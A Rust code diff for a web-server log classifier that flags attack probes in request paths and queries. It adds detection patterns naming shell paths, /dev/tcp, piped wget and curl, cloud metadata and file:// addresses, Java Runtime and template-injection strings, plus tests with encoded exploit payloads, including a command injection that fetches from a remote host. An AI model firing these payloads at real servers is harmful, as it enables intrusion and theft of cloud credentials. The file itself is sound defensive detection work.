@@ -5,6 +5,7 @@
 //! A path is classified as the server reads it (`served_path.rs`). `docs/detection.md` gives the reasons and the measured
 //! effect; `trace.rs` adds the answer.
 
+use crate::detect::injection;
 use crate::detect::login;
 use crate::detect::served_path::Served;
 
@@ -64,6 +65,10 @@ pub fn of_path(path: &[u8]) -> Shape {
     }
     if path.first() != Some(&b'/') || has_control(path) {
         return shape(Kind::Foreign, path.len());
+    }
+    // Java's look-ups, which a server's log may work out.
+    if memchr::memmem::find(path, b"${").is_some() {
+        return shape(Kind::Probe, path.len());
     }
     if let Some(end) = probe_end(path) {
         return shape(Kind::Probe, end);
@@ -202,7 +207,8 @@ pub fn of_query(query: &[u8]) -> Query<'_> {
         return Query::Password(password);
     }
     let seen = bytes_of(lower);
-    if is_query_probe(lower, &seen) || (seen[usize::from(b'%')] && is_probe_when_decoded(lower)) {
+    let is_encoded = seen[usize::from(b'%')] || seen[usize::from(b'+')];
+    if is_query_probe(lower, &seen) || (is_encoded && is_probe_when_decoded(lower)) {
         return Query::Probe;
     }
     if holds(lower, &seen, &QUERY_DUBIOUS) {
@@ -224,20 +230,20 @@ fn holds(text: &[u8], seen: &[bool; 256], probes: &[(u8, &[u8])]) -> bool {
 }
 
 fn is_query_probe(lower: &[u8], seen: &[bool; 256]) -> bool {
-    let may_be_union = b"unioselct".iter().all(|letter| seen[usize::from(*letter)]);
-    holds(lower, seen, &QUERY_PROBES) || (may_be_union && is_union_select(lower))
+    holds(lower, seen, &QUERY_PROBES) || is_evaluated(lower, seen) || injection::holds_sql(lower, seen)
 }
 
-/// SQL's `union select`, with anything but letters and digits between the words, which may be `all` and `distinct` too. The
-/// word alone is a word: `?q=credit+union`.
-fn is_union_select(lower: &[u8]) -> bool {
-    memchr::memmem::find_iter(lower, b"union").any(|at| {
-        let mut words = lower[at + 5..]
-            .split(|byte| !byte.is_ascii_lowercase())
-            .filter(|word| word.len() > 1)
-            .skip_while(|word| matches!(*word, b"all" | b"distinct"));
-        lower.get(at + 5).is_some_and(|next| !next.is_ascii_alphanumeric()) && words.next() == Some(b"select")
-    })
+/// An expression between a template's braces that only tells whether it is worked out: `{{7*7}}`.
+fn is_evaluated(lower: &[u8], seen: &[bool; 256]) -> bool {
+    let may_be = seen[usize::from(b'{')] && seen[usize::from(b'*')];
+    may_be
+        && memchr::memchr_iter(b'{', lower).any(|at| {
+            let inner = &lower[at + 1..];
+            let digits = inner.iter().take_while(|byte| byte.is_ascii_digit()).count();
+            digits > 0
+                && inner.get(digits) == Some(&b'*')
+                && inner.get(digits + 1).is_some_and(u8::is_ascii_digit)
+        })
 }
 
 /// Whether a text of [`QUERY_PROBES`] shows when the query is decoded once.
@@ -245,7 +251,8 @@ fn is_probe_when_decoded(lower: &[u8]) -> bool {
     let (mut decoded, mut len, mut rest) = ([0; 512], 0, lower);
     while let Some((byte, behind)) = rest.split_first() {
         let code = (*byte == b'%').then(|| hex_byte(behind)).flatten();
-        let (byte, behind) = code.map_or((*byte, behind), |byte| (byte.to_ascii_lowercase(), &behind[2..]));
+        let byte = if *byte == b'+' { b' ' } else { *byte };
+        let (byte, behind) = code.map_or((byte, behind), |byte| (byte.to_ascii_lowercase(), &behind[2..]));
         decoded[len] = byte;
         (len, rest) = (len + 1, behind);
     }
@@ -281,8 +288,8 @@ fn is_asset_query(query: &[u8]) -> bool {
     query.split(|b| matches!(b, b'&' | b'=' | b'?')).any(|part| kind_by_ending(part) == Kind::Asset)
 }
 
-/// Texts with their rarest byte.
-const QUERY_PROBES: [(u8, &[u8]); 15] = [
+/// Texts with their rarest byte. Those with a space are found once the query is decoded.
+const QUERY_PROBES: [(u8, &[u8]); 42] = [
     (b'/', b"../"),
     (b'%', b"..%2f"),
     (b'%', b"%2e%2e"),
@@ -298,6 +305,37 @@ const QUERY_PROBES: [(u8, &[u8]); 15] = [
     (b'k', b"invokefunction"),
     (b'$', b"${jndi"),
     (b'.', b"win.ini"),
+    // Files and other servers that only the server itself can reach.
+    (b'/', b"/proc/self/"),
+    (b':', b"file:///"),
+    (b':', b"gopher://"),
+    (b':', b"expect://"),
+    (b':', b"phar://"),
+    (b'.', b"169.254.169.254"),
+    // Classes and functions of the languages that pages are written in.
+    (b'.', b"java.lang.runtime"),
+    (b'(', b"getruntime("),
+    (b'@', b"@java.lang"),
+    (b'_', b"_memberaccess"),
+    (b'.', b"classloader."),
+    (b'_', b"__globals__"),
+    (b'_', b"__class__"),
+    (b'_', b"__import__"),
+    (b'.', b"freemarker.template"),
+    (b'(', b"phpinfo("),
+    (b'(', b"base64_decode("),
+    // Commands.
+    (b'/', b"/bin/sh"),
+    (b'/', b"/bin/bash"),
+    (b'/', b"/dev/tcp/"),
+    (b';', b";wget "),
+    (b'|', b"|wget "),
+    (b';', b";curl "),
+    (b'|', b"|curl "),
+    // Scripts without their tag.
+    (b'<', b"<svg/on"),
+    (b'<', b"<svg on"),
+    (b'<', b"<img src=x"),
 ];
 
 const QUERY_DUBIOUS: [(u8, &[u8]); 7] = [
@@ -470,7 +508,8 @@ fn kind_by_ending(segment: &[u8]) -> Kind {
         | b"ttf" | b"otf" | b"eot" | b"mp3" | b"mp4" | b"m4a" | b"m4v" | b"m4s" | b"webm" | b"ogg"
         | b"oga" | b"ogv" | b"opus" | b"flac" | b"wav" | b"avi" | b"mov" | b"mpg" | b"mpeg" | b"ts"
         | b"m3u8" | b"mpd" | b"vtt" | b"srt" | b"pdf" | b"pbf" | b"mvt" | b"webmanifest" | b"vcf"
-        | b"pmtiles" => Kind::Asset,
+        | b"pmtiles" | b"bin" | b"dat" | b"pak" | b"bundle" | b"glb" | b"gltf" | b"ktx2" | b"nfo"
+        | b"tbn" | b"sub" | b"idx" | b"ass" | b"ssa" | b"smi" | b"sup" | b"cue" | b"lrc" => Kind::Asset,
         b"php" | b"php3" | b"php4" | b"php5" | b"php7" | b"php8" | b"phtml" | b"asp" | b"aspx" | b"ashx"
         | b"asmx" | b"jsp" | b"jspx" | b"jspa" | b"cgi" | b"pl" | b"cfm" | b"dll" | b"exe" | b"sh"
         | b"py" | b"action" | b"do" => Kind::Script,
@@ -597,6 +636,16 @@ mod tests {
         check("?id=1+UNION/**/ALL+select+2", Query::Probe);
         check("?id=1%20un%69on%20select%202", Query::Probe);
         check("?file=.%2e/.%2E/%65tc/passwd", Query::Probe);
+        check(
+            "?x=%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D",
+            Query::Probe,
+        );
+        check("?name={{7*7}}", Query::Probe);
+        check("?name=%24%7B7%2A7%7D", Query::Probe);
+        check("?host=1.2.3.4;wget+http://203.0.113.9/x", Query::Probe);
+        check("?url=http%3A%2F%2F169.254.169.254%2Flatest", Query::Probe);
+        check("?q=template+{{name}}+2*3", Query::Plain);
+        check("?q=what+is+a+classloader", Query::Plain);
     }
 
     #[test]
